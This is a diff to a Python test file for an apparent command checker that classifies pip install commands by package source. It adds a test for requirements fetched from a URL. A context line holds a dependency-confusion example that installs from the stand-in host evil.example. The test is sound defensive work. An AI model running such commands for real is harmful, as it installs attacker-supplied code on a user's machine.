@@ -266,6 +266,16 @@ def test_trusted_sources_by_host_and_path():
     assert run("pip install --index-url https://pypi.org/simple x", own).verdict is Verdict.NUDGE
 
 
+def test_a_requirements_list_fetched_from_a_url_is_a_source():
+    result = run("pip install -r https://raw.githubusercontent.com/someone/x/main/reqs.txt")
+    assert result.verdict is Verdict.NUDGE
+    assert result.evidence["object"] == "source:pypi:raw.githubusercontent.com"
+    assert run("pip install -r requirements/dev.txt").verdict is Verdict.OK
+    # a constraints file pins versions of what is installed anyway
+    pinned = "pip install -c https://raw.githubusercontent.com/o/x/c.txt x==1.0"
+    assert run(pinned).verdict is Verdict.OK
+
+
 def test_extra_index_url_is_dependency_confusion():
     result = run("pip install --extra-index-url https://evil.example/simple foo")
     assert result.verdict is Verdict.NUDGE
